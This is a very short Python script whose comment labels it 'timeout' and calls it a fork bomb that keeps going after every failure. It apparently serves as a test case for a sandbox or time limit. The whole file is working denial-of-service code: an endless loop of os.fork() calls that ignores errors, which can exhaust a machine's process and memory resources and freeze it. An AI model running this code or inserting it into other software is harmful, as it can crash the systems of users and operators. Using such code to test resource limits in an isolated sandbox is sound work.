# timeout: fork bomb that goes on after every failure
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
